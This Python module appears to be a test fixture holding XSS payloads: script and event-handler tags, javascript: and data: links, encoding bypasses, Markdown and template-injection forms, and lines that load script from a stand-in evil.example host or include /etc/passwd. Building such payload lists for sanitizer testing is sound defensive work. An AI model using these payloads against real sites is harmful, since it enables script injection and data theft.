"""Texts that try to run a script on a page: known forms of cross-site scripting, and forms made for what builds ours.

Each would call `alert` if it ever became more than text.
"""

from __future__ import annotations

_TAGS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src="https://evil.example/x.js"></script>
<script src=//evil.example/x.js></script>
<script/x>alert(1)</script>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
<script type="module">alert(1)</script>
<script>/*--></title></style></textarea></script><svg/onload=alert(1)>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x" onerror="alert(1)"
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=`x` onerror=`alert(1)`>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/>
<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href="javascript:alert(1)">click</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math href="javascript:alert(1)">click</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<link rel="stylesheet" href="javascript:alert(1)">
<link rel="import" href="data:text/html,<script>alert(1)</script>">
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<div style="width:expression(alert(1))">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<form action="javascript:alert(1)"><button>go</button></form>
<form><button formaction="javascript:alert(1)">go</button></form>
<input autofocus onfocus=alert(1)>
<input type="image" src="x" onerror="alert(1)">
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video><source onerror="alert(1)"></video>
<video src=x onerror=alert(1)>
<video poster="javascript:alert(1)">
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<frameset onload=alert(1)>
<table background="javascript:alert(1)"><tr><td>x
<isindex action="javascript:alert(1)" type=image>
<a href="javascript:alert(1)">click</a>
<a href="jav&#x0A;ascript:alert(1)">click</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>
<a onmouseover=alert(1)>hover</a>
<b onclick=alert(1)>click</b>
<x onclick=alert(1) contenteditable>click
<div onpointerover="alert(1)">hover</div>
<p style="animation-name:x" onanimationstart="alert(1)">x</p>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<title></title><img src=x onerror=alert(1)>
<plaintext><img src=x onerror=alert(1)>
<portal src="javascript:alert(1)">
<custom-element onconnected=alert(1)></custom-element>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?php echo '<script>alert(1)</script>'; ?>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<%<script>alert(1)</script>%>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
` onmouseover=alert(1)
"autofocus onfocus=alert(1) x="
--></style></title></textarea></noscript><svg/onload=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#x3c;img src=x onerror=alert(1)&#x3e;
&LT;script&GT;alert(1)&LT;/script&GT;
＜script＞alert(1)＜/script＞
‹img src=x onerror=alert(1)›
"""

_LINKS = r"""
javascript:alert(1)
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1))
[click](<javascript:alert(1)>)
[click](java&#115;cript:alert(1))
[click](javascript&colon;alert(1))
[click](javascript&#58;alert(1))
[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[click](java%0Ascript:alert(1))
[click](jav&Tab;ascript:alert(1))
[click](jav&NewLine;ascript:alert(1))
[click](&#1;javascript:alert(1))
[click]( javascript:alert(1) "title")
[click](\javascript:alert(1))
[click](javascript\:alert(1))
[click](javascript://https://example.org/%0Aalert(1))
[click](vbscript:msgbox(1))
[click](data:text/html,<script>alert(1)</script>)
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[click](view-source:javascript:alert(1))
[click](feed:javascript:alert(1))
[click](blob:https://example.org/x)
[click](filesystem:https://example.org/x)
[click](file:///etc/passwd)
[click](intent://x#Intent;scheme=javascript;end)
[click](//evil.example/x.js)
[click](\\evil.example\x.js)
[click](https://example.org" onmouseover="alert(1))
[click](https://example.org 'x" onmouseover="alert(1)')
[click](https://example.org "x' onmouseover='alert(1)")
[click](../rounds/knitting.html" onclick="alert(1))
[click][x] [x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://example.org/"onmouseover="alert(1)>
<x@example.org"onmouseover="alert(1)>
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![x" onerror="alert(1)](x)
![x](data:image/svg+xml,<svg onload=alert(1)>)
[![x](x)](javascript:alert(1))
[a](b){: onclick=alert(1) }
[a](https://example.org){ onclick="alert(1)" href="javascript:alert(1)" }
*x*{: onmouseover=alert(1) style=x }
Title {: onclick="alert(1)" }
Title { #x onclick=alert(1) }
`code`{ onclick=alert(1) }
"""

_BUILDERS = r"""
{{ "<script>alert(1)</script>" }}
{{ config.__class__.__init__.__globals__ }}<script>alert(1)</script>
{% raw %}<script>alert(1)</script>{% endraw %}
{% include "/etc/passwd" %}{{ "<img src=x onerror=alert(1)>"|safe }}
${alert(1)} #{alert(1)} {{constructor.constructor('alert(1)')()}}
--8<-- "README.md"
;--8<-- "https://evil.example/x.md"
[TOC]
__config
__md_scope
__search __drawer __find __find-box
base document_write
*[x]: <script>alert(1)</script>
[^1]: <script>alert(1)</script>
!!! note "<script>alert(1)</script>"
??? note onclick=alert(1)
=== "<script>alert(1)</script>"
::: generator.cli onclick=alert(1)
@[x](javascript:alert(1))
$$\href{javascript:alert(1)}{x}$$
:smile: :material-x:{ onclick=alert(1) }
==x=={ onclick=alert(1) } ^^x^^ ~~x~~ ++ctrl++
wzxhzdk:0
klzzwxh:0001
<div class="rh x"><img src=x onerror=alert(1)></div>
<details class="rh gate" open ontoggle=alert(1)></details>
</div><div class="rh x" onclick="alert(1)">
</summary></details><img src=x onerror=alert(1)>
</code></pre></div><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
| a | b | onclick=alert(1) |
<div markdown="1" onclick=alert(1)>
<div markdown="block"><script>alert(1)</script></div>
<p data-md-component="x" data-md-url="javascript:alert(1)">
"""

#: Texts of several lines, and such as hold characters that a list of lines can't.
_LONG = (
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "x\n\n<script>alert(1)</script>\n\nx",
    "x\n<img\nsrc=x\nonerror=alert(1)\n>",
    "<div\nonclick=alert(1)>\n\n[a](javascript:alert(1))\n\n</div>",
    "[click][x]\n\n[x]: javascript:alert(1)",
    "[click]\n\n[click]: <data:text/html,<script>alert(1)</script>>\n  'title'",
    "[click](jav\nascript:alert(1))",
    "[click](jav\tascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](java\x00script:alert(1))",
    "[click](\u2028javascript:alert(1))",
    "[click](javascript\u200b:alert(1))",
    "[click](\u00a0javascript:alert(1))",
    "x\u2028<script>alert(1)</script>\u2029x",
    "x\x0b<script>alert(1)</script>\x0cx",
    "x\r\r<script>alert(1)</script>\r\r",
    "x\r\n\r\n[a](javascript:alert(1))\r\n",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "```\n<script>alert(1)</script>\n```",
    '```html onclick="alert(1)"\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "``` {.python onclick=alert(1) #x}\nx\n```",
    '``` { .html title="<script>alert(1)</script>" hl_lines="1" linenums="1" }\nx\n```',
    "~~~mermaid\ngraph LR; a-->b[\"<img src=x onerror=alert(1)>\"]; click a \"javascript:alert(1)\"\n~~~",
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><script>alert(1)</script>",
    "\t<script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\ntemplate: x.html\nrobots: '\"><script>alert(1)</script>'\n---\n",
    "---\nhide: [navigation]\nsource: javascript:alert(1)\n---\n# x",
    "x\n---\ntitle: </title><script>alert(1)</script>\n---",
    "# x {: onclick=alert(1) #__config }\n\n## <script>alert(1)</script>",
    "{: onclick=alert(1) href=javascript:alert(1) }\n\nx\n{: onmouseover=alert(1) }",
    "| a |\n| --- |\n| <script>alert(1)</script> |\n| [a](javascript:alert(1)) |\n{: onclick=alert(1) }",
    "- a\n\n    <script>alert(1)</script>\n\n        <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>\n> [a](javascript:alert(1))",
    'x\n\n<div class="rh x"><img src=x onerror=alert(1)></div>\n\nx',
    'x\n<details class="rh x" ontoggle=alert(1) open><img src=x onerror=alert(1)></details>\nx',
    '\n<div class="rh x"><script>alert(1)</script></div>\n<div class="rh prose">',
    "\x02wzxhzdk:0\x03 \x02wzxhzdk:1\x03 \x02klzzwxh:0\x03<script>alert(1)</script>",
    "\x0260\x03script\x0262\x03alert(1)\x0260\x03/script\x0262\x03",
    "&#2;wzxhzdk:0&#3; &#x2;amp&#x3;lt;script&gt;",
    "<!--\nx\n--><script>alert(1)</script>\n<!--",
    "<![CDATA[\n<script>alert(1)</script>\n]]>",
    "<?x\n?><script>alert(1)</script>",
    "--8<-- [start:x]\n<script>alert(1)</script>\n--8<-- [end:x]",
    '--8<--\n"/etc/passwd"\n--8<--',
    "*[alert]: <script>alert(1)</script>\n\nalert",
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '=== "x"\n    <script>alert(1)</script>\n',
    "x[^1]\n\n[^1]: <script>alert(1)</script>\n    [a](javascript:alert(1))",
    "Term\n:   <script>alert(1)</script>\n{: onclick=alert(1) }",
    "/// html | img[src=x onerror=alert(1)]\n///",
)  # fmt: skip

PAYLOADS = tuple(line for text in (_TAGS, _LINKS, _BUILDERS) for line in text.split("\n") if line) + _LONG
